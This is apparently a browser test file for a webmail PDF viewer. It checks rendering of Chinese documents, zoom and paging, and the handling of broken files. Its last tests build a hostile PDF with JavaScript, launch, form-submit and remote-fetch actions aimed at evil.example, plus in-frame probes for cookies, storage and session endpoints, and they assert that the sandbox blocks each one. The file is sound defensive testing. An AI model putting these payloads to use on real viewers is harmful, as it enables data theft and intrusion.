// A PDF that came along is read in place; what else one may want of its reader comes to nothing.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { close, message, pdf, row, world } from './world.js';

let here;
before(async () => (here = await world()));
after(async () => here.end());

const letter = (subject, file, name = 'plan.pdf') =>
  `From: Bob <bob@anser.test>\r\nTo: ann@anser.test\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${file.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n--b--\r\n`;
const inside = (page) => page.frameLocator('dialog iframe');
async function open(page, subject) {
  await row(page, subject).click();
  await page.locator('.attachment', { hasText: '.pdf' }).click();
}
/** Dark points of the page that is shown. */
const ink = (page) =>
  inside(page).locator('main canvas').evaluate((canvas) => {
    const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
    let count = 0;
    for (let at = 0; at < data.length; at += 4) if (data[at] < 128 && data[at + 3] > 128) count++;
    return count;
  });
/** As a program prints it, its fonts within. Some characters of it are named as radicals there. */
async function printed() {
  const page = await here.browser.newPage();
  await page.setContent('<body style="font-size: 28px"><h1>二〇二六年度预算说明</h1><p>各单位：现将有关事项通知如下。</p><p style="break-before: page">第二页 page two</p>');
  const file = await page.pdf({ format: 'A4' });
  await page.close();
  return file;
}

for (const [language, width, words] of [
  ['en', 1280, { next: 'Next page', larger: 'Larger' }],
  ['zh', 390, { next: '下一页', larger: '放大' }],
]) {
  test(`a PDF in Chinese is read page by page, larger and smaller, its text to be chosen, ${language}`, async () => {
    await here.put('ann', [[letter(`printed ${language}`, await printed())]]);
    const page = await here.page('ann', { language, width });
    await open(page, `printed ${language}`);
    await inside(page).locator('.text', { hasText: '预算说明' }).waitFor();
    assert.ok((await ink(page)) > 1_000);
    if (process.env.ANSER_SHOTS) await page.screenshot({ path: join(process.env.ANSER_SHOTS, `pdf-${language}-${width}.png`) });
    const wide = () => inside(page).locator('main').evaluate((main) => main.getBoundingClientRect().width);
    const before = await wide();
    await page.locator('dialog .bar .tool[title="' + words.larger + '"]').click();
    assert.ok(await page.evaluate(() => [...document.querySelectorAll('dialog .bar > *')].every((one) => one.getBoundingClientRect().right <= innerWidth)));
    await inside(page).locator('main').evaluate((main, wanted) => new Promise((done) => {
      const look = () => (main.getBoundingClientRect().width > wanted ? done() : requestAnimationFrame(look));
      look();
    }), before * 1.2);
    await page.locator('dialog .bar .tool[title="' + words.next + '"]').click();
    await inside(page).locator('.text', { hasText: 'page two' }).waitFor();
    await page.locator('dialog .bar input').fill('1');
    await page.keyboard.press('Enter');
    await inside(page).locator('.text', { hasText: '各单位' }).waitFor();
    // Keys mean the same within the page.
    await inside(page).locator('.text').click();
    await page.keyboard.press('PageDown');
    await inside(page).locator('.text', { hasText: 'page two' }).waitFor();
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
    await page.locator('dialog header .tool').click();
    await page.locator('dialog').waitFor({ state: 'detached' });
    await close(page);
  });
}

test('a PDF whose font everybody in China has, and which does not bring it, is read', async () => {
  await here.put('ann', [[letter('without its font', pdf(['关于会议的通知', '第二页']))]]);
  const page = await here.page('ann');
  await open(page, 'without its font');
  await inside(page).locator('.text', { hasText: '关于会议的通知' }).waitFor();
  assert.ok((await ink(page)) > 200);
  await close(page);
});

test('a PDF that is none, and one that is broken, are said to be', async () => {
  await here.put('ann', [[letter('no PDF', Buffer.from('GIF89a'))], [letter('cut off', pdf(['x']).subarray(0, 300))]]);
  const page = await here.page('ann');
  for (const subject of ['no PDF', 'cut off']) {
    await open(page, subject);
    await page.locator('dialog [role=alert]', { hasText: 'cannot be shown here' }).waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('dialog [aria-label="Download plan.pdf"]').click()]);
    assert.equal(download.suggestedFilename(), 'plan.pdf');
    await page.keyboard.press('Escape');
    await page.locator('dialog').waitFor({ state: 'detached' });
  }
  await close(page);
});

test('a PDF that wants to run, open, send and fetch does nothing of it, and ten thousand pages keep nobody waiting', async () => {
  const script = 'app.alert(1); app.launchURL("https://evil.example/js", true); this.submitForm("https://evil.example/form"); top.fired = 1; fetch("https://evil.example/fetch")';
  const uri = '<< /S /URI /URI (https://evil.example/uri) >>';
  const hostile = {
    catalog: `/OpenAction 4 0 R /AA << /WC 4 0 R /DP 4 0 R >> /Names << /JavaScript << /Names [(a) 4 0 R] >> >> /AcroForm << /Fields [] /XFA 6 0 R >>`,
    page: `/AA << /O 4 0 R /C ${uri} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${uri} /AA << /E 4 0 R /D 4 0 R >> >> << /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 300 300] /A 4 0 R /AA << /K 4 0 R /Fo 4 0 R >> >>]`,
    objects: [
      `<< /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) /Next [${uri} << /S /GoToR /F << /FS /URL /F (https://evil.example/remote.pdf) >> /D [0 /Fit] >> << /S /Launch /F (https://evil.example/launch) >> << /S /SubmitForm /F << /FS /URL /F (https://evil.example/submit) >> >>] >>`,
      '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (https://evil.example/x.png) >> /Length 0 >>\nstream\n\nendstream',
      '<< /Length 60 >>\nstream\n<xdp><script>top.fired=1</script><a href="https://evil"/></xdp>\nendstream',
    ],
  };
  await here.put('ann', [[letter('hostile', pdf(Array.from({ length: 10_000 }, (_, at) => `第${at + 1}页`), hostile))]]);
  const page = await here.page('ann');
  const [asked, events] = [[], []];
  page.context().on('request', (request) => asked.push(request.url()));
  page.context().on('page', () => events.push('a window'));
  page.on('dialog', (dialog) => (events.push(dialog.message()), dialog.dismiss()));
  page.on('framenavigated', (frame) => !/\/mail\/(pdf|letter|)(#.*)?$|about:blank/.test(frame.url()) && events.push(frame.url()));
  await open(page, 'hostile');
  await inside(page).locator('.text', { hasText: '第1页' }).waitFor();
  await page.locator('dialog .bar', { hasText: '/ 10000' }).waitFor();
  await inside(page).locator('main canvas').click({ force: true });
  await inside(page).locator('.text').click({ position: { x: 100, y: 100 }, force: true });
  await page.locator('dialog .bar input').fill('10000');
  await page.keyboard.press('Enter');
  await inside(page).locator('.text', { hasText: '第10000页' }).waitFor();
  assert.deepEqual(asked.filter((url) => !url.startsWith(here.url) && !url.startsWith('blob:')), []);
  assert.deepEqual(events, []);
  assert.equal(await page.evaluate(() => window.fired), undefined);
  await close(page);
});

test('the page of a PDF has no origin: it reads nothing of its reader, and nobody answers it', async () => {
  await here.put('ann', [[letter('origin', pdf(['x']))], [message({ subject: 'another' })]]);
  const page = await here.page('ann');
  await open(page, 'origin');
  await inside(page).locator('main canvas').waitFor();
  const frame = page.frames().find((one) => one.url().endsWith('/mail/pdf'));
  // A hostile script that got to run there would be as this one.
  const got = await frame.evaluate(async () => {
    const tried = async (what) => {
      try {
        return String(await what());
      } catch (error) {
        return error.name;
      }
    };
    const asked = [];
    addEventListener('message', ({ data }) => asked.push(data.name));
    for (const want of ['/jmap/api', '/assets/../jmap/session', '/auth/sessions', 'https://evil.example/', '/assets/webmail.0123456789ab.js']) parent.postMessage({ want }, '*');
    parent.postMessage({ want: 'pdf' }, '*');
    await new Promise((done) => addEventListener('message', ({ data }) => data.name === 'pdf' && done()));
    return {
      origin: self.origin,
      parent: await tried(() => parent.document.title),
      cookie: await tried(() => document.cookie),
      storage: await tried(() => localStorage.length),
      fetched: await tried(() => fetch('/mail/')),
      image: await tried(() => new Promise((done, failed) => Object.assign(new Image(), { onload: () => done('shown'), onerror: () => failed(new Error('none')), src: 'https://evil.example/x.png' }))),
      evaluated: await tried(() => (0, eval)('1')),
      called: await tried(() => new RTCPeerConnection()),
      asked,
    };
  });
  assert.deepEqual(got, { origin: 'null', parent: 'SecurityError', cookie: 'SecurityError', storage: 'SecurityError', fetched: 'TypeError', image: 'Error', evaluated: 'EvalError', called: 'ReferenceError', asked: ['pdf'] });
  await close(page);
});
